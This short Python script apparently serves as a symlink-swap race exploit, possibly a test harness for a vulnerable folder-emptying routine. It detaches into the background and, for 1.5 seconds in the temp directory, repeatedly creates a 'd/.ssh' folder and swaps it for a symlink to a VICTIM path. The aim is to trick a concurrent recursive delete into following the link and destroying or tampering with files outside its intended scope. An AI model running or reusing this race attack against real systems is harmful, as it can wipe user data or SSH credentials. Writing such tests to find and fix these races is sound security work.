"""Swaps a folder and a link as fast as it can while it is being emptied."""
import os
import subprocess
import sys
import time

if len(sys.argv) == 1:
    subprocess.Popen([sys.executable, __file__, "go"], start_new_session=True)
    print("tried")
    sys.exit(0)
end = time.monotonic() + 1.5
os.chdir(os.environ["TMPDIR"])
while time.monotonic() < end:
    try:
        os.makedirs("d/.ssh")
        os.rename("d", "e")
        os.symlink(os.environ["VICTIM"], "d")
        os.rename("d", "f")
    except OSError:
        pass
